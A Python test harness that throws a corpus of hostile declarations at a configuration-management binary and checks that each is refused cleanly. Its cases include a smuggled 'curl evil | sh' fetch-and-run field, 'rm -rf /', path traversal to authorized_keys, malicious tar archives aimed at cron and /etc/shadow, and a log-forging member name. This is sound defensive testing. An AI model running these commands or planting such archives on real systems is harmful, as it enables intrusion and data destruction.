#!/usr/bin/env python3
"""The hostile-declaration corpus, run through the built binary.

Every case must be refused whole: exit 2, a message naming the offender,
nothing written under --root, the record byte for byte as it was (the last
applied state kept), and bounded memory for the absurd sizes.

usage: hostile_test.py MESH_HOST_BINARY
"""
import atexit, base64, hashlib, shutil, io, json, os, resource, subprocess, sys, tarfile, tempfile

BIN = sys.argv[1]
T = tempfile.mkdtemp(prefix="mesh-host-hostile.")
atexit.register(shutil.rmtree, T, True)  # also when a case raises
ROOT, ART, STATE, UNITS = (os.path.join(T, d) for d in ("root", "art", "state", "units"))
OUTSIDE = os.path.join(T, "outside")
for d in (ROOT, ART, OUTSIDE):
    os.makedirs(d)


def tar(members):
    buf = io.BytesIO()
    # surrogateescape: a member name may be any bytes, as in a hostile tar.
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.GNU_FORMAT, encoding="utf-8",
                      errors="surrogateescape") as t:
        for name, kind, extra in members:
            info = tarfile.TarInfo(name)
            if kind == "file":
                data = extra.encode()
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
                continue
            info.type = {"sym": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE, "chr": tarfile.CHRTYPE,
                         "fifo": tarfile.FIFOTYPE}[kind]
            if kind in ("sym", "hard"):
                info.linkname = extra
            if kind == "chr":
                info.devmajor, info.devminor = 1, 3
            t.addfile(info)
    return buf.getvalue()


def artifact(name, members):
    data = tar(members)
    with open(os.path.join(ART, name), "wb") as f:
        f.write(data)
    return hashlib.sha256(data).hexdigest()


GOOD_SHA = artifact("good.tar.gz", [("bin/serve", "file", "#!/bin/sh\n")])
BASE_FILE = {"id": "app.conf", "kind": "file", "path": "/etc/app.conf", "content": "ok\n"}


def decl(*resources, generation=5, machine="hostile"):
    return {"machine": machine, "generation": generation, "resources": list(resources)}


def archive_case(name, members):
    sha = artifact(name, members)
    return decl(BASE_FILE, {"id": "bundle", "kind": "archive", "path": "/opt/b", "source": name, "sha256": sha})


# A credential's bytes, which no refusal may quote.
SECRET = "hunter2-AKIA"
CRED = b'{"id": "api.key", "kind": "credential", "path": "/etc/api.key", "content": "' + SECRET.encode()


def deep(n):
    return '{"machine": "hostile", "generation": 5, "resources": [' + "[" * n + "]" * n + "]}"


CASES = [
    # (name, declaration (dict or raw bytes), expected words in the refusal)
    ("traversal in path", decl({"id": "x", "kind": "file", "path": "/etc/../../root/.ssh/authorized_keys", "content": "k"}), "contains .."),
    ("relative path", decl({"id": "x", "kind": "file", "path": "etc/x", "content": "k"}), "resource x, field path"),
    ("NUL in path", decl({"id": "x", "kind": "file", "path": "/etc/x\u0000y", "content": "k"}), "NUL"),
    ("symlink planted in root", "SYMLINK", "resource planted, field path: path /lnk/passwd: /lnk is a symlink"),
    ("archive ../ entry", archive_case("dotdot.tar.gz", [("../../etc/cron.d/x", "file", "* * * * * root sh")]), "climbs out"),
    ("archive absolute entry", archive_case("abs.tar.gz", [("/etc/passwd", "file", "root::0:0")]), "is absolute"),
    ("archive hard link", archive_case("hard.tar.gz", [("h", "hard", "/etc/shadow")]), "is a hard link"),
    ("archive symlink", archive_case("sym.tar.gz", [("s", "sym", "/etc/shadow")]), "is a symlink"),
    ("archive device node", archive_case("dev.tar.gz", [("null", "chr", "")]), "device"),
    ("archive fifo", archive_case("fifo.tar.gz", [("f", "fifo", "")]), "device, fifo or socket"),
    ("archive not a tar", "NOTTAR", "bundle is not a tar"),
    ("duplicate ids", decl(BASE_FILE, dict(BASE_FILE, path="/etc/other")), "resource app.conf, field id: duplicate id"),
    ("duplicate paths", decl(BASE_FILE, dict(BASE_FILE, id="other")), "resource other, field path: \"/etc/app.conf\" is also claimed by resource app.conf"),
    ("unknown kind", decl({"id": "x", "kind": "command", "command": "rm -rf /"}), "resource x, field kind: unknown kind \"command\""),
    ("smuggled command field", decl(dict(BASE_FILE, exec_start_pre="curl evil | sh")), "resource app.conf, field exec_start_pre: unknown field"),
    ("smuggled top-level hook", dict(decl(BASE_FILE), hooks=["sh"]), "declaration, field hooks: unknown field"),
    ("invalid unit name", decl({"id": "svc", "kind": "service", "unit": "../../etc/x.service", "state": "running"}), "resource svc, field unit"),
    ("unit without suffix", decl({"id": "svc", "kind": "service", "unit": "sshd", "state": "running"}), "resource svc, field unit"),
    ("bad mode", decl(dict(BASE_FILE, mode="4777x")), "resource app.conf, field mode"),
    ("enabled not a boolean", decl({"id": "svc", "kind": "service", "unit": "a.service", "state": "running", "enabled": "yes"}), "resource svc, field enabled: must be true or false"),
    ("enabled on a file", decl({"id": "f", "kind": "file", "path": "/etc/f", "content": "x", "enabled": True}), "resource f, field enabled: unknown field for kind file"),
    ("restart_on on a socket", decl({"id": "f", "kind": "file", "path": "/etc/f", "content": "x"}, {"id": "s", "kind": "service", "unit": "a.socket", "state": "running", "restart_on": ["f"]}), "resource s, field restart_on: systemd refuses to restart a.socket"),
    ("reload_on on a timer", decl({"id": "f", "kind": "file", "path": "/etc/f", "content": "x"}, {"id": "t", "kind": "service", "unit": "a.timer", "state": "running", "reload_on": ["f"]}), "resource t, field reload_on: a.timer cannot be reloaded"),
    ("drop-in name with /", decl({"id": "svc", "kind": "service", "unit": "a.service", "state": "running", "drop_ins": {"cron.d/x.conf": "x"}}), "resource svc, field drop_ins: \"cron.d/x.conf\": a drop-in name has only letters"),
    ("drop-in name ..", decl({"id": "svc", "kind": "service", "unit": "a.service", "state": "running", "drop_ins": {"a..b.conf": "x"}}), "a drop-in name has no \"..\""),
    ("drop-in not .conf", decl({"id": "svc", "kind": "service", "unit": "a.service", "state": "running", "drop_ins": {"override": "x"}}), "a drop-in name ends in \".conf\""),
    ("drop-in hidden", decl({"id": "svc", "kind": "service", "unit": "a.service", "state": "running", "drop_ins": {".conf": "x"}}), "a drop-in name ends in \".conf\""),
    ("drop_ins a list", decl({"id": "svc", "kind": "service", "unit": "a.service", "state": "running", "drop_ins": ["a.conf"]}), "resource svc, field drop_ins: must map drop-in file names"),
    ("drop-in text a number", decl({"id": "svc", "kind": "service", "unit": "a.service", "state": "running", "drop_ins": {"a.conf": 1}}), "a.conf: must be the drop-in's text"),
    ("symlink without target", decl({"id": "l", "kind": "symlink", "path": "/etc/l"}), "resource l, field target: missing"),
    ("symlink target empty", decl({"id": "l", "kind": "symlink", "path": "/etc/l", "target": ""}), "resource l, field target: must be a path of 1 to"),
    ("directory with content", decl({"id": "d", "kind": "directory", "path": "/srv/d", "content": "x"}), "resource d, field content: unknown field for kind directory"),
    ("directory bad mode", decl({"id": "d", "kind": "directory", "path": "/srv/d", "mode": "rwx"}), "resource d, field mode:"),
    ("restart_on unknown", decl({"id": "svc", "kind": "service", "unit": "a.service", "state": "running", "restart_on": ["ghost"]}), "names unknown resource \"ghost\""),
    ("source climbing out", decl({"id": "b", "kind": "archive", "path": "/opt/b", "source": "../../etc/shadow", "sha256": GOOD_SHA}), "resource b, field source"),
    ("sha256 mismatch", decl({"id": "b", "kind": "archive", "path": "/opt/b", "source": "good.tar.gz", "sha256": "0" * 64}), "resource b, field sha256: source good.tar.gz has sha256"),
    ("missing source", decl({"id": "b", "kind": "archive", "path": "/opt/b", "source": "nope.tar.gz", "sha256": GOOD_SHA}), "resource b, field source"),
    ("generation lower than applied", decl(BASE_FILE, generation=4), "field generation: 4 is lower than the applied generation 5"),
    ("another machine", decl(BASE_FILE, machine="elsewhere"), "field machine: \"elsewhere\" is not this machine"),
    ("deep nesting", deep(100000).encode(), "nested deeper than 32"),
    ("invalid UTF-8", b'{"machine": "hostile", "generation": 5, "resources": [{"id": "x", "kind": "file", "path": "/etc/\xff\xfe", "content": "x"}]}', "invalid JSON"),
    ("not JSON", b"machine: hostile\n", "invalid JSON"),
    ("credential with a raw newline", b'{"machine": "hostile", "generation": 5, "resources": [{"id": "a", "kind": "file", "path": "/a", "content": ""}, ' + CRED + b'\nrest"}]}', "line 2, column 0: syntax error while parsing value - invalid string: control character U+000A (LF) must be escaped to \\u000A or \\n (in resources[1])"),
    ("declaration cut off inside a credential", b'{"machine": "hostile", "generation": 5, "resources": [' + CRED, "missing closing quote (in resources[0])"),
    ("bundle nested 200 levels", archive_case("deep.tar.gz", [("d/" * 200 + "f", "file", "x")]), "nests deeper than 128 directories"),
    ("bundle member name of 300 bytes", archive_case("long.tar.gz", [("n" * 300, "file", "x")]), "has a name component of 300 bytes; at most 255"),
    ("bundle member named to forge a log line", archive_case("forge.tar.gz", [("x\udcff\nfailed fake.service (service): forged log line", "sym", "/etc/shadow")]), 'entry "x\\xff\\x0afailed fake.service (service): forged log line" is a symlink'),
    ("empty file", b"", "invalid JSON"),
    ("a list, not an object", b"[]", "must be a JSON object"),
    ("content of 20 MB", decl(dict(BASE_FILE, content="x" * (20 << 20))), "resource app.conf, field content: content of 20971520 bytes exceeds the limit"),
    ("base64 content of 20 MB", decl(dict({k: v for k, v in BASE_FILE.items() if k != "content"}, content_base64=base64.b64encode(b"y" * (20 << 20)).decode())), "exceeds the limit"),
    ("declaration of 100 MB", "HUGE", "larger than the limit of 67108864 bytes"),
    ("100,001 resources", decl(*[{"id": f"r{i}", "kind": "file", "path": f"/e/{i}", "content": ""} for i in range(100001)]), "more than 100000 resources"),
]

decl_path = os.path.join(T, "declaration.json")
flags = ["--declaration", decl_path, "--root", ROOT, "--state-dir", STATE, "--artifacts", ART,
         "--unit-dir", UNITS, "--machine", "hostile"]


def write(content):
    # Some hold credentials: only their owner may read them.
    with os.fdopen(os.open(decl_path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "wb") as f:
        f.write(content if isinstance(content, bytes) else json.dumps(content).encode())


def snapshot():
    out = {}
    for d, dirs, files in os.walk(T):
        if d.startswith(ART) or d == T:
            continue
        for n in files + dirs:
            p = os.path.join(d, n)
            st = os.lstat(p)
            data = open(p, "rb").read() if os.path.isfile(p) and not os.path.islink(p) else b""
            out[p] = (st.st_mode, st.st_mtime_ns, hashlib.sha256(data).hexdigest())
    return out


# The last applied state: generation 5.
write(decl(BASE_FILE))
r = subprocess.run([BIN, "apply", *flags], capture_output=True, text=True)
assert r.returncode == 0, r.stderr

passed = failed = 0
for name, content, expected in CASES:
    if content == "SYMLINK":
        os.symlink(OUTSIDE, os.path.join(ROOT, "lnk"))
        content = decl(BASE_FILE, {"id": "planted", "kind": "file", "path": "/lnk/passwd", "content": "owned"})
    elif content == "NOTTAR":
        with open(os.path.join(ART, "junk.tar.gz"), "wb") as f:
            f.write(b"this is not an archive at all" * 10)
        content = decl({"id": "b", "kind": "archive", "path": "/opt/b", "source": "junk.tar.gz",
                        "sha256": hashlib.sha256(b"this is not an archive at all" * 10).hexdigest()})
    elif content == "HUGE":
        content = b'{"machine": "hostile", "generation": 5, "resources": [], "pad": "' + b"z" * (100 << 20) + b'"}'
    write(content)
    before = snapshot()
    rss_before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    r = subprocess.run([BIN, "apply", *flags], capture_output=True, text=True, errors="replace")
    rss_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    after = snapshot()
    problems = []
    if r.returncode != 2:
        problems.append(f"exit {r.returncode}, not 2")
    if any(ord(ch) < 0x20 and ch not in "\n" or ch == "\ufffd" for ch in r.stderr):
        problems.append("raw control or invalid bytes in the message")
    if SECRET in r.stderr or SECRET in r.stdout:
        problems.append("a credential's bytes are quoted")
    if any(line.startswith("failed ") for line in (r.stdout + r.stderr).splitlines()):
        problems.append("a forged outcome line")
    if expected not in r.stderr:
        problems.append(f"message does not say {expected!r}: {r.stderr.strip()[:300]!r}")
    if before != after:
        changed = sorted(set(before.items()) ^ set(after.items()))[:3]
        problems.append(f"something was written: {changed}")
    if os.listdir(OUTSIDE):
        problems.append(f"written outside the root: {os.listdir(OUTSIDE)}")
    if rss_kib > max(rss_before, 1) and rss_kib > 600 * 1024:
        problems.append(f"peak memory {rss_kib // 1024} MiB")
    if problems:
        failed += 1
        print(f"FAIL - {name}: " + "; ".join(problems))
    else:
        passed += 1
        print(f"ok   - {name}: {r.stderr.splitlines()[0][:110]}")
    if name == "symlink planted in root":
        os.unlink(os.path.join(ROOT, "lnk"))

# After all of it, the last applied state still holds and applies cleanly.
write(decl(BASE_FILE))
r = subprocess.run([BIN, "apply", *flags], capture_output=True, text=True)
if r.returncode == 0 and r.stdout.startswith("unchanged app.conf"):
    passed += 1
    print("ok   - the last applied state is intact afterwards")
else:
    failed += 1
    print("FAIL - afterwards:", r.returncode, r.stdout, r.stderr)
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
print(f"corpus: {len(CASES)} hostile declarations; peak child memory {peak} MiB")
subprocess.run(["rm", "-rf", T])
print(f"{passed} passed, {failed} failed")
sys.exit(1 if failed else 0)
